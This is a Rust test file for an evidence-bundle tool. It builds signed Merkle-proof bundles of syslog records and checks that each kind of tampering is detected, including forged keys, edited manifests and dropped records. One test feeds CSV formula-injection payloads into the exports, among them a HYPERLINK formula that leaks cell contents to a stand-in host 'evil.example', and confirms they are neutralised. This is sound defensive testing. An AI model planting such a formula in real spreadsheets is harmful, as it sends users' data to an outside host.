//! Bundles made and checked without a vault: a real Merkle tree and a real
//! Ed25519-signed checkpoint, then each kind of tampering.

use pramaan_core::{Record, Transport};
use pramaan_ledger::merkle::{root_of, subtree_root};
use pramaan_ledger::{Checkpoint, Hash, SignerKey};
use pramaan_orders::bundle::{self, BundleWriter, Manifest, Parts, SystemInfo};
use pramaan_orders::proofs::needed_ranges;
use pramaan_orders::verify_bundle;
use pramaan_orders::zip::{ZipReader, ZipWriter};
use sha2::{Digest, Sha256};
use std::io::Cursor;
use std::path::Path;

const ORIGIN: &str = "Acme-ISP/node-1";

fn record(seq: u64) -> Record {
    Record {
        seq,
        received_at_ns: 1_772_500_000_000_000_000 + seq as i64 * 1_000_000,
        transport: if seq.is_multiple_of(3) {
            Transport::Tcp
        } else {
            Transport::Udp
        },
        peer: format!("10.0.0.{}:514", seq % 5),
        raw: format!("<134>Mar  3 14:02:11 web{} sshd[77]: Accepted password for user{} from 203.0.113.{} port 22", seq % 4, seq % 7, seq % 200)
            .into_bytes(),
    }
}

struct Tree {
    leaves: Vec<Hash>,
    key: SignerKey,
    note: String,
}

fn tree(n: u64) -> Tree {
    let leaves: Vec<Hash> = (0..n).map(|s| record(s).as_ref().leaf_hash()).collect();
    let key = SignerKey::from_seed(ORIGIN, &[7u8; 32]).unwrap();
    let note = Checkpoint::new(ORIGIN, n, root_of(&leaves))
        .unwrap()
        .sign(&key)
        .unwrap()
        .to_string();
    Tree { leaves, key, note }
}

fn make(t: &Tree, seqs: &[u64], out: &Path, exported_at_ns: i64) -> Manifest {
    let mut w = BundleWriter::new().unwrap();
    for &s in seqs {
        w.add(
            &record(s),
            serde_json::json!({"host": format!("web{}", s % 4)}),
        )
        .unwrap();
    }
    let n = t.leaves.len() as u64;
    let proof_hashes = needed_ranges(w.seqs(), n)
        .into_iter()
        .map(|r| (r, subtree_root(&t.leaves, r.0, r.1).unwrap()))
        .collect();
    w.finish(
        Parts {
            reference: "CERT-In/2026/042".into(),
            order_json: "{\"reference\":\"CERT-In/2026/042\"}\n".into(),
            subscribers: vec![serde_json::json!({"id": "S-1", "name": "A. Kumar"})],
            bindings: vec![],
            proof_hashes,
            checkpoint_note: t.note.clone(),
            checkpoint_origin: ORIGIN.into(),
            checkpoint_size: n,
            vkey: t.key.verifier().to_vkey(),
            system: SystemInfo {
                software: "pramaan test".into(),
                origin: ORIGIN.into(),
                exported_by: "asha".into(),
                exported_at_ns,
            },
        },
        out,
    )
    .unwrap()
}

/// Every entry of a ZIP, in order.
fn entries(zip: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut r = ZipReader::new(Cursor::new(zip.to_vec())).unwrap();
    let names: Vec<String> = r.entries().iter().map(|e| e.name.clone()).collect();
    names
        .into_iter()
        .map(|n| {
            let d = r.read_all(&n, u64::MAX).unwrap();
            (n, d)
        })
        .collect()
}

/// Re-makes the ZIP after `f` changed entries; with `fix_manifest`, the
/// manifest's hashes are recomputed so that only deeper checks can notice.
fn tamper(zip: &[u8], fix_manifest: bool, f: impl Fn(&str, &mut Vec<u8>) -> bool) -> Vec<u8> {
    let mut es = entries(zip);
    es.retain_mut(|(n, d)| f(n, d));
    if fix_manifest {
        let mut m: Manifest =
            serde_json::from_slice(&es.iter().find(|(n, _)| n == bundle::MANIFEST).unwrap().1)
                .unwrap();
        for file in &mut m.files {
            if let Some((_, d)) = es.iter().find(|(n, _)| *n == file.path) {
                file.bytes = d.len() as u64;
                file.sha256 = hex::encode(Sha256::digest(d));
            }
        }
        es.iter_mut()
            .find(|(n, _)| n == bundle::MANIFEST)
            .unwrap()
            .1 = serde_json::to_vec_pretty(&m).unwrap();
    }
    let mut w = ZipWriter::new(Cursor::new(Vec::new()));
    for (n, d) in &es {
        w.add(n, &mut &d[..]).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn verify_err(zip: Vec<u8>, key: Option<&str>) -> String {
    verify_bundle(Cursor::new(zip), key)
        .unwrap_err()
        .to_string()
}

fn setup() -> (tempfile::TempDir, Tree, Vec<u8>) {
    let dir = tempfile::tempdir().unwrap();
    let t = tree(1000);
    // A contiguous run and scattered records, as a selector would pick.
    let seqs: Vec<u64> = (100..400).chain((500..1000).step_by(37)).collect();
    make(&t, &seqs, &dir.path().join("b.zip"), 1);
    let zip = std::fs::read(dir.path().join("b.zip")).unwrap();
    (dir, t, zip)
}

#[test]
fn round_trip_verifies_every_record() {
    let (_d, t, zip) = setup();
    let s = verify_bundle(Cursor::new(zip.clone()), Some(&t.key.verifier().to_vkey())).unwrap();
    assert_eq!(s.order, "CERT-In/2026/042");
    assert_eq!(s.records, 300 + 14);
    assert_eq!(s.seq_range, Some((100, 981)));
    assert_eq!(s.checkpoint_size, 1000);
    assert!(s.key_given);
    // Far fewer stored hashes than records x proof length.
    assert!(s.proof_hashes < 120, "{}", s.proof_hashes);
    let text = s.to_string();
    assert!(
        text.contains("bundle for order CERT-In/2026/042: OK"),
        "{text}"
    );
    // Without --key the bundle's own key is used, and the summary says so.
    let s = verify_bundle(Cursor::new(zip), None).unwrap();
    assert!(!s.key_given);
    assert!(s.to_string().contains("the key inside the bundle"));
}

#[test]
fn the_same_order_exported_twice_gives_identical_data_files() {
    let dir = tempfile::tempdir().unwrap();
    let t = tree(300);
    let seqs: Vec<u64> = (0..300).step_by(3).collect();
    make(&t, &seqs, &dir.path().join("1.zip"), 1);
    make(&t, &seqs, &dir.path().join("2.zip"), 2_000_000_000_000);
    let a = entries(&std::fs::read(dir.path().join("1.zip")).unwrap());
    let b = entries(&std::fs::read(dir.path().join("2.zip")).unwrap());
    for ((na, da), (nb, db)) in a.iter().zip(&b) {
        assert_eq!(na, nb);
        if na != bundle::CERTIFICATE && na != bundle::MANIFEST {
            assert_eq!(da, db, "{na} differs");
        }
    }
    // The certificate differs only by the export time; the manifest not at all.
    assert_eq!(
        a.iter().find(|e| e.0 == bundle::MANIFEST),
        b.iter().find(|e| e.0 == bundle::MANIFEST)
    );
}

#[test]
fn a_changed_data_file_is_named() {
    let (_d, _t, zip) = setup();
    let bad = tamper(&zip, false, |n, d| {
        if n == bundle::RECORDS {
            let s = String::from_utf8(d.clone()).unwrap().replacen(
                "\"peer\":\"10.0.0.",
                "\"peer\":\"10.9.0.",
                1,
            );
            *d = s.into_bytes();
        }
        true
    });
    let e = verify_err(bad, None);
    assert!(
        e.starts_with("records.ndjson: SHA-256 ") && e.contains("differs from the manifest"),
        "{e}"
    );
    // The same change with the manifest recomputed: the record's proof fails.
    let bad = tamper(&zip, true, |n, d| {
        if n == bundle::RECORDS {
            let s = String::from_utf8(d.clone()).unwrap().replacen(
                "\"peer\":\"10.0.0.",
                "\"peer\":\"10.9.0.",
                1,
            );
            *d = s.into_bytes();
        }
        true
    });
    let e = verify_err(bad, None);
    assert!(
        e.starts_with("proof of record 100 (records.ndjson line 1): computed root does not match"),
        "{e}"
    );
    // A subscriber file changed (no proof covers it: the manifest does).
    let bad = tamper(&zip, false, |n, d| {
        if n == bundle::SUBSCRIBERS {
            d.extend_from_slice(b"{\"id\":\"S-2\"}\n");
        }
        true
    });
    assert!(verify_err(bad, None).starts_with("subscribers.ndjson: SHA-256 "));
}

#[test]
fn a_changed_proof_is_named() {
    let (_d, _t, zip) = setup();
    let flip = |n: &str, d: &mut Vec<u8>| {
        if n == bundle::PROOF_HASHES {
            // The first hash of the second line.
            let at = d.iter().position(|&c| c == b'\n').unwrap() + 1;
            let comma = at + d[at..].iter().rposition(|&c| c == b',').unwrap_or(0);
            let h = d[at..].iter().position(|&c| c == b'\n').unwrap() + at - 1;
            let _ = comma;
            d[h] = if d[h] == b'0' { b'1' } else { b'0' };
        }
        true
    };
    let e = verify_err(tamper(&zip, false, flip), None);
    assert!(e.starts_with("proof-hashes.csv: SHA-256 "), "{e}");
    let e = verify_err(tamper(&zip, true, flip), None);
    assert!(
        e.starts_with("proof of record ") && e.contains("computed root does not match"),
        "{e}"
    );
    // A hash removed: the proof that needs it says which subtree is missing.
    let drop_line = |n: &str, d: &mut Vec<u8>| {
        if n == bundle::PROOF_HASHES {
            let s = String::from_utf8(d.clone()).unwrap();
            let mut lines: Vec<&str> = s.lines().collect();
            lines.remove(1);
            *d = (lines.join("\n") + "\n").into_bytes();
        }
        true
    };
    let e = verify_err(tamper(&zip, true, drop_line), None);
    assert!(
        e.contains("is missing from the bundle's proof hashes"),
        "{e}"
    );
}

#[test]
fn a_changed_checkpoint_is_named() {
    let (_d, t, zip) = setup();
    // Another root, same signature: the signature no longer verifies.
    let other = Checkpoint::new(ORIGIN, 1000, root_of(&t.leaves[..999]))
        .unwrap()
        .to_text();
    let swap = |n: &str, d: &mut Vec<u8>| {
        if n == bundle::CHECKPOINT {
            let s = String::from_utf8(d.clone()).unwrap();
            let sig = s.split_once("\n\n").unwrap().1;
            *d = format!("{other}\n{sig}").into_bytes();
        }
        true
    };
    let e = verify_err(tamper(&zip, false, swap), None);
    assert!(e.starts_with("checkpoint.txt: SHA-256 "), "{e}");
    let e = verify_err(tamper(&zip, true, swap), None);
    assert!(
        e.starts_with("checkpoint.txt: does not verify with key Acme-ISP/node-1+"),
        "{e}"
    );
    // A checkpoint re-signed by an impostor's key, and its key swapped in:
    // only a key obtained separately catches it.
    let impostor = SignerKey::from_seed(ORIGIN, &[9u8; 32]).unwrap();
    let resign = |n: &str, d: &mut Vec<u8>| {
        if n == bundle::CHECKPOINT {
            *d = Checkpoint::new(ORIGIN, 1000, root_of(&t.leaves))
                .unwrap()
                .sign(&impostor)
                .unwrap()
                .to_string()
                .into_bytes();
        }
        if n == bundle::VKEY {
            *d = format!("{}\n", impostor.verifier().to_vkey()).into_bytes();
        }
        true
    };
    let forged = tamper(&zip, true, resign);
    assert!(verify_bundle(Cursor::new(forged.clone()), None).is_ok());
    let e = verify_err(forged, Some(&t.key.verifier().to_vkey()));
    assert!(
        e.starts_with("checkpoint.txt: does not verify with key"),
        "{e}"
    );
}

#[test]
fn a_changed_manifest_is_named() {
    let (_d, _t, zip) = setup();
    let edit = |n: &str, d: &mut Vec<u8>| {
        if n == bundle::MANIFEST {
            let mut m: Manifest = serde_json::from_slice(d).unwrap();
            let f = m
                .files
                .iter_mut()
                .find(|f| f.path == bundle::RECORDS_CSV)
                .unwrap();
            f.sha256 = "00".repeat(32);
            *d = serde_json::to_vec(&m).unwrap();
        }
        true
    };
    let e = verify_err(tamper(&zip, false, edit), None);
    assert!(e.starts_with("records.csv: SHA-256 "), "{e}");
    let unlist = |n: &str, d: &mut Vec<u8>| {
        if n == bundle::MANIFEST {
            let mut m: Manifest = serde_json::from_slice(d).unwrap();
            m.files.retain(|f| f.path != bundle::BINDINGS);
            *d = serde_json::to_vec(&m).unwrap();
        }
        true
    };
    let e = verify_err(tamper(&zip, false, unlist), None);
    assert_eq!(
        e,
        "bindings.ndjson: is in the bundle but not in the manifest"
    );
    let missing = |n: &str, _: &mut Vec<u8>| n != bundle::RECORDS_CSV;
    let e = verify_err(tamper(&zip, false, missing), None);
    assert_eq!(e, "records.csv: is in the manifest but not in the bundle");
    let garbage = |n: &str, d: &mut Vec<u8>| {
        if n == bundle::MANIFEST {
            *d = b"{not json".to_vec();
        }
        true
    };
    assert!(verify_err(tamper(&zip, false, garbage), None).starts_with("manifest.json: "));
}

#[test]
fn a_record_dropped_or_a_wrong_key_is_named() {
    let (_d, _t, zip) = setup();
    let drop_first = |n: &str, d: &mut Vec<u8>| {
        if n == bundle::RECORDS {
            let at = d.iter().position(|&c| c == b'\n').unwrap() + 1;
            d.drain(..at);
        }
        true
    };
    let e = verify_err(tamper(&zip, true, drop_first), None);
    assert_eq!(e, "manifest.json: says 314 records, records.ndjson has 313");
    let other = SignerKey::from_seed("Someone-Else/node", &[3u8; 32]).unwrap();
    let e = verify_err(zip.clone(), Some(&other.verifier().to_vkey()));
    assert!(
        e.starts_with("checkpoint.txt: does not verify with key Someone-Else/node+"),
        "{e}"
    );
    let e = verify_err(zip, Some("not a key"));
    assert!(e.starts_with("key: "), "{e}");
}

/// Log lines and fields that a spreadsheet would run as formulas are text in
/// records.csv (a `'` in front); records.ndjson keeps their exact bytes, and
/// the bundle still verifies.
#[test]
fn records_csv_neutralises_formulas_and_the_bundle_still_verifies() {
    let payloads = [
        r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#,
        "+1",
        "-2",
        "@SUM(A1:A9)",
    ];
    let records: Vec<Record> = payloads
        .iter()
        .enumerate()
        .map(|(i, p)| Record {
            seq: i as u64,
            received_at_ns: 1_772_500_000_000_000_000 + i as i64,
            transport: Transport::Udp,
            peer: "10.0.0.1:514".into(),
            raw: p.as_bytes().to_vec(),
        })
        .collect();
    let leaves: Vec<Hash> = records.iter().map(|r| r.as_ref().leaf_hash()).collect();
    let key = SignerKey::from_seed(ORIGIN, &[7u8; 32]).unwrap();
    let n = leaves.len() as u64;
    let note = Checkpoint::new(ORIGIN, n, root_of(&leaves))
        .unwrap()
        .sign(&key)
        .unwrap()
        .to_string();
    let mut w = BundleWriter::new().unwrap();
    for (r, p) in records.iter().zip(payloads) {
        // The host and app fields carry the payload too.
        w.add(r, serde_json::json!({ "host": p, "app": p }))
            .unwrap();
    }
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("b.zip");
    w.finish(
        Parts {
            reference: "CERT-In/2026/043".into(),
            order_json: "{\"reference\":\"CERT-In/2026/043\"}\n".into(),
            subscribers: vec![],
            bindings: vec![],
            proof_hashes: vec![],
            checkpoint_note: note,
            checkpoint_origin: ORIGIN.into(),
            checkpoint_size: n,
            vkey: key.verifier().to_vkey(),
            system: SystemInfo {
                software: "pramaan test".into(),
                origin: ORIGIN.into(),
                exported_by: "asha".into(),
                exported_at_ns: 1,
            },
        },
        &out,
    )
    .unwrap();
    let zip = std::fs::read(&out).unwrap();
    let files = entries(&zip);
    let get = |name: &str| {
        String::from_utf8(files.iter().find(|e| e.0 == name).unwrap().1.clone()).unwrap()
    };
    let csv = get(bundle::RECORDS_CSV);
    let rows: Vec<&str> = csv.lines().skip(1).collect();
    assert_eq!(rows.len(), 4, "{csv}");
    for (row, p) in rows.iter().zip(payloads) {
        let quoted = format!("\"'{}\"", p.replace('"', "\"\""));
        // host, app and raw: each neutralised, never the bare payload.
        assert_eq!(row.matches(&quoted).count(), 3, "{p}: {row}");
        assert!(!row.contains(&format!(",{p}")), "{p} bare in {row}");
    }
    // No cell of the file starts like a formula.
    for line in csv.lines() {
        for c in line.split(',') {
            let c = c.trim_start_matches('"');
            assert!(!c.starts_with(['=', '+', '-', '@']), "{c} in {line}");
        }
    }
    // records.ndjson keeps the exact bytes.
    let nd = get(bundle::RECORDS);
    for (line, p) in nd.lines().zip(payloads) {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        use base64::Engine as _;
        let raw = base64::engine::general_purpose::STANDARD
            .decode(v["raw_b64"].as_str().unwrap())
            .unwrap();
        assert_eq!(raw, p.as_bytes());
    }
    // The README and the certificate say the CSV is a view.
    assert!(get(bundle::README).contains("a view only"));
    assert!(get(bundle::CERTIFICATE).contains("CSV view in records.csv"));
    let s = verify_bundle(Cursor::new(zip), Some(&key.verifier().to_vkey())).unwrap();
    assert_eq!(s.records, 4);
}
